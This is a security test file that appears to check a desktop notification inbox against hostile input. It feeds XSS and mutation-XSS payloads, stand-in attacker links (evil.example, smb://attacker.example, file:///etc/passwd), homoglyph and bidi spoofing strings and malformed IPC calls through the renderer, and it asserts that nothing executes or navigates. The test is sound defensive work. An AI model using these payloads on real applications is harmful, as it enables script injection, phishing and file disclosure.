/**
 * Hostile-input suite, renderer: hostile strings pushed through a real Prosody and the real
 * engine, rendered by the BUILT inbox in Chromium (run `npm run build` first). For each one:
 * the text shows literally (textContent equals the stored, sanitized text), no script runs
 * (no dialog, no window.__pwned, no CSP violation), nothing is injected into the page, and
 * nothing navigates. Links an inbox file should never hold open nothing when their button is
 * clicked; a page calling the preload API with bad arguments is refused and changes nothing.
 * e2e/renderer.test.ts has the first hostile test (<script>/<img onerror> text, an RTL
 * override, a 10,000-character word, a javascript: link dropped by the engine).
 */
import { afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { Page } from 'playwright';
import { IpcChannel, type InboxChange } from '../core/desktop-api.ts';
import type { PushDraft } from '../core/push.ts';
import { makeItem, useDesktopHarness, type DesktopApp } from './support/desktop-harness.ts';

const desktop = useDesktopHarness();

interface HostileCase {
  name: string;
  draft: Omit<PushDraft, 'id'>;
  /** What must show, after the codec's documented sanitizing (defaults: the draft's own text). */
  shown?: { title?: string; body?: string; category?: string; urlLabel?: string; url?: string };
}

const CASES: HostileCase[] = [
  {
    name: 'a <style> and a stylesheet link',
    draft: {
      title: '<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>',
      body: 'b',
    },
  },
  {
    name: 'a meta refresh',
    draft: {
      title: 'Refresh',
      body: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    },
  },
  { name: 'a <base href>', draft: { title: '<base href="https://evil.example/">Base', body: 'b' } },
  {
    name: 'a login form',
    draft: {
      title: 'Form',
      body: '<form action="https://evil.example/"><input name=pw><button>Log in</button></form>',
    },
  },
  {
    name: 'mutation XSS through MathML',
    draft: {
      title: 'mXSS',
      body: '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=6">',
    },
  },
  {
    name: 'an iframe srcdoc',
    draft: { title: '<iframe srcdoc="<script>parent.__pwned=7</script>">', body: 'b' },
  },
  {
    name: 'an SVG script',
    draft: { title: 'SVG', body: '<svg><script>window.__pwned=12</script></svg>' },
  },
  {
    name: 'object and embed',
    draft: {
      title: '<object data="javascript:window.__pwned=13"></object><embed src="x.swf">',
      body: 'b',
    },
  },
  {
    name: 'template injection',
    draft: {
      title: "{{constructor.constructor('window.__pwned=8')()}}",
      body: '${window.__pwned=9} {{7*7}} <%= 7*7 %>',
    },
  },
  {
    name: 'a javascript: URL as text',
    draft: { title: 'javascript:window.__pwned=10', body: 'javascript:window.__pwned=10' },
  },
  {
    name: 'dangling markup',
    draft: {
      title: "<img src='https://evil.example/?",
      body: '<textarea><noscript><p title="</noscript><img src=x onerror=window.__pwned=14>">',
    },
  },
  {
    name: 'a javascript: anchor as the category',
    draft: {
      title: 'Category',
      body: 'b',
      category: '<a href="javascript:window.__pwned=11">click</a>',
    },
  },
  {
    name: 'comments and CDATA',
    draft: { title: '<!-- x --><![CDATA[ y ]]> ]]>', body: '--> <!--' },
  },
  {
    name: 'character references that stay text',
    draft: { title: '&#x3C;script&#x3E; &lt;b&gt; &amp;', body: '&#106;avascript:alert(1)' },
  },
  {
    name: 'a hostile link label on a safe link',
    draft: {
      title: 'Label',
      body: 'b',
      url: 'https://erp.example.com/1',
      urlLabel: '<img src=x onerror="window.__pwned=15">Open',
    },
    shown: { url: 'https://erp.example.com/1' },
  },
  {
    name: 'quotes in a link',
    draft: { title: 'Quotes', body: 'b', url: 'https://a.example/"onmouseover="window.__pwned=16' },
    shown: { url: 'https://a.example/%22onmouseover=%22window.__pwned=16' },
  },
  {
    name: 'an IDN look-alike host (shown as punycode)',
    draft: {
      title: 'Sign in to Apple',
      body: 'b',
      url: 'https://\u0430\u0440\u0440\u04CF\u0435.com/login',
      urlLabel: 'apple.com',
    },
    shown: { url: 'https://xn--80ak6aa92e.com/login' },
  },
  {
    name: 'bidi embeddings and isolates (removed)',
    draft: {
      title: 'Pay \u202A100\u202C \u2067EUR\u2069 to \u202Bfdp.exe\u202C',
      body: 'x\u2066y\u2069z',
    },
    shown: { title: 'Pay 100 EUR to fdp.exe', body: 'xyz' },
  },
  {
    name: 'line and paragraph separators (a title stays one line)',
    draft: { title: 'Approved\u2028by: CEO', body: 'one\u2029two' },
    shown: { title: 'Approved by: CEO', body: 'one\ntwo' },
  },
  {
    name: 'C1 controls (removed)',
    draft: { title: '\u009B31mRed\u0085 title', body: 'a\u0080b' },
    shown: { title: '31mRed title', body: 'ab' },
  },
  {
    name: 'zero-width characters, emoji sequences and stacked marks (kept)',
    draft: {
      title:
        'Z\u0338\u0322\u0348a\u0335l\u0336g\u0337o \u{1F468}\u200D\u{1F469}\u200D\u{1F467} a\u200Bb',
      body: '\u200F\u05E9\u05DC\u05D5\u05DD',
    },
  },
  {
    name: 'a 5,000-character title (cut with "…")',
    draft: { title: 'T'.repeat(5_000), body: 'b' },
    shown: { title: `${'T'.repeat(299)}…` },
  },
];

/** Links a tampered or older inbox file could hold: stored as is, the button shows them. */
const TAMPERED_LINKS = [
  'javascript:window.__pwned=20',
  ' JaVaScRiPt:window.__pwned=21',
  'data:text/html,<script>window.__pwned=22</script>',
  'file:///etc/passwd',
  'vbscript:MsgBox(1)',
  'ms-settings:privacy',
  'smb://attacker.example/share',
  'http://user:pass@erp.example.com/',
];
const FENCE_URL = 'https://fence.example/ok';

let app: DesktopApp;
let page: Page;
let startUrl: string;
const navigations: string[] = [];
const popups: string[] = [];

beforeAll(async () => {
  const now = Date.now();
  app = await desktop.createApp({
    scope: 'file',
    seed: [
      ...TAMPERED_LINKS.map((url, index) =>
        makeItem({
          id: `tampered-${index}`,
          kind: 'news',
          title: `Tampered ${index}`,
          url,
          sentAt: now - 60_000,
        }),
      ),
      makeItem({
        id: 'fence',
        kind: 'news',
        title: 'Fence',
        url: FENCE_URL,
        sentAt: now - 120_000,
      }),
    ],
  });
  const { send } = await app.connect();
  const arrived = new Promise<void>((resolve) => {
    const ids = new Set(CASES.map((_, index) => `hostile-${index}`));
    const onChange = (change: InboxChange) => {
      if (change.type === 'upsert') for (const item of change.items) ids.delete(item.id);
      if (ids.size > 0) return;
      app.service.events.off(IpcChannel.inboxChanged, onChange);
      resolve();
    };
    app.service.events.on(IpcChannel.inboxChanged, onChange);
  });
  for (const [index, { draft }] of CASES.entries())
    await send({ id: `hostile-${index}`, kind: 'news', ...draft });
  await arrived;
  page = await app.openWindow('inbox');
  await page.locator('[data-tab="all"]').click();
  await page.locator('[role=option]').first().waitFor();
  startUrl = page.url();
  page.on('framenavigated', (frame) => void navigations.push(frame.url()));
  page.on('popup', (popup) => void popups.push(popup.url()));
}, 90_000);

/** The same evidence after every case: nothing ran, nothing was injected, nothing moved. */
afterEach(async () => {
  const evidence = await page.evaluate(`({
    pwned: window.__pwned ?? null,
    csp: window.__cspViolations,
    injected: document.body.querySelectorAll('img, iframe, object, embed, a, b, form, textarea, base, meta, link, style, math, table, noscript, [onerror], [onload], [onmouseover], [srcdoc], [href], [src]').length,
    scripts: document.querySelectorAll('script').length,
    title: document.title,
  })`);
  expect(evidence).toEqual({ pwned: null, csp: [], injected: 0, scripts: 1, title: 'Herald' });
  expect(app.dialogs).toEqual([]);
  expect(app.pageErrors).toEqual([]);
  expect(navigations).toEqual([]);
  expect(popups).toEqual([]);
  expect(page.url()).toBe(startUrl);
});

/** Shows an item as a notification click does: selected, scrolled to, its detail open. */
async function show(id: string) {
  await app.service.focusItem(id);
  const row = page.locator(`[role=option][data-item-id="${id}"]`);
  await row.and(page.locator('[aria-selected="true"]')).waitFor({ timeout: 10_000 });
  return row;
}

describe('hostile text renders literally', () => {
  test.each(CASES.map((c, index) => [c.name, index, c] as const))(
    '%s',
    async (_name, index, { draft, shown = {} }) => {
      const id = `hostile-${index}`;
      const row = await show(id);
      const title = shown.title ?? draft.title;
      const body = shown.body ?? draft.body;
      expect(await row.locator('.row-title').textContent()).toBe(title);
      expect(await row.locator('.row-preview').textContent()).toBe(body.split('\n')[0]!.trim());
      await expect.poll(() => page.locator('#detail-title').textContent()).toBe(title);
      expect(await page.locator('.detail-body').textContent()).toBe(body);
      if (draft.category) {
        expect(await row.locator('.chip').first().textContent()).toBe(
          shown.category ?? draft.category,
        );
        expect(await page.locator('.detail-kicker .bidi').textContent()).toBe(
          shown.category ?? draft.category,
        );
      }
      expect(await page.locator('.detail-url').count()).toBe(shown.url ? 1 : 0);
      if (shown.url) {
        expect(await page.locator('.detail-url').textContent()).toBe(shown.url);
        expect(await page.locator('.detail-link button').textContent()).toBe(
          draft.urlLabel ?? 'Open link',
        );
      }
    },
  );
});

describe('link buttons', () => {
  /** Clicks the fence's link and waits for it: main handles the calls in order. */
  async function fence() {
    const before = app.opened.length;
    await show('fence');
    await page.locator('.detail-link button').click({ timeout: 10_000 });
    await expect.poll(() => app.opened.length).toBe(before + 1);
    return app.opened.splice(0);
  }

  test.each(TAMPERED_LINKS.map((url, index) => [url, index] as const))(
    'a stored %j opens nothing when its button is clicked',
    async (url, index) => {
      await show(`tampered-${index}`);
      await expect.poll(() => page.locator('.detail-url').textContent()).toBe(url);
      await page.locator('.detail-link button').click({ timeout: 10_000 });
      expect(await fence()).toEqual([FENCE_URL]);
    },
  );

  test('the keyboard shortcut (o) on a stored javascript: link opens nothing either', async () => {
    await show('tampered-0');
    await page.locator('#inbox-list').focus();
    await page.keyboard.press('o');
    expect(await fence()).toEqual([FENCE_URL]);
  });

  test('the IDN look-alike link opens the punycode address the user was shown', async () => {
    const index = CASES.findIndex((c) => c.name.startsWith('an IDN'));
    await show(`hostile-${index}`);
    await page.locator('.detail-link button').click({ timeout: 10_000 });
    await expect.poll(() => app.opened).toEqual(['https://xn--80ak6aa92e.com/login']);
    app.opened.splice(0);
  });
});

describe('the page calling the preload API with bad arguments', () => {
  /** The stored inbox and settings (not the one-shot focus id a snapshot hands out). */
  const state = async () => {
    const { items, counts } = await app.service.handlers[IpcChannel.getInbox]();
    return { items, counts, settings: await app.service.handlers[IpcChannel.getSettings]() };
  };
  let before: unknown;
  beforeAll(async () => {
    before = await state();
  });
  afterEach(async () => {
    expect(await state()).toEqual(before);
    expect(app.opened).toEqual([]);
  });

  /** Runs `call` in the page; resolves with what the promise settled to. */
  const settle = (call: string) =>
    page.evaluate(`(async () => {
      try { return { resolved: await (${call}) }; }
      catch (error) { return { rejected: String(error.message) }; }
    })()`);

  test.each([
    [
      'a number as the id',
      'window.herald.setRead(42, true)',
      /inbox:set-read: argument 1: the item id must be a string/,
    ],
    [
      'a string as the flag',
      "window.herald.setDone('hostile-0', 'yes')",
      /inbox:set-done: argument 2: done must be true or false/,
    ],
    [
      'an object as the id',
      "window.herald.openLink({ id: 'fence' })",
      /inbox:open-link: argument 1: the item id must be a string/,
    ],
    [
      'a 10 MB id',
      "window.herald.deleteItem('x'.repeat(10 * 1024 * 1024))",
      /inbox:delete: arguments are 10485764 bytes, more than the 65536 allowed/,
    ],
    [
      'a kind named constructor',
      "window.herald.markAllRead('constructor')",
      /inbox:mark-all-read: argument 1: the kind must be one of todo, news, notice/,
    ],
    [
      'an unknown do-not-disturb choice',
      "window.herald.setDnd('forever')",
      /settings:set-dnd: argument 1: do-not-disturb must be/,
    ],
  ])('%s is rejected', async (_name, call, message) => {
    const result = (await settle(call)) as { rejected?: string };
    expect(result.rejected).toMatch(message);
  });

  test.each([
    ['an unknown id', "window.herald.deleteItem('no-such-item')"],
    ['an id named __proto__', "window.herald.setRead('__proto__', true)"],
  ])('%s answers false', async (_name, call) => {
    expect(await settle(call)).toEqual({ resolved: false });
  });

  test('an unknown setting is a field error', async () => {
    expect(await settle('window.herald.saveSettings({ isAdmin: true })')).toEqual({
      resolved: { ok: false, errors: [{ field: 'isAdmin', code: 'setting.unknown', params: {} }] },
    });
  });

  test('the API object cannot be replaced or extended by the page', async () => {
    expect(
      await page.evaluate(`(() => {
        const original = window.herald;
        try { window.herald = { getInbox: () => 'fake' }; } catch {}
        try { window.herald.openLink = () => 'fake'; } catch {}
        try { window.herald.wipe = () => 'fake'; } catch {}
        return { same: window.herald === original, frozen: Object.isFrozen(window.herald), added: 'wipe' in window.herald };
      })()`),
    ).toEqual({ same: true, frozen: true, added: false });
  });
});
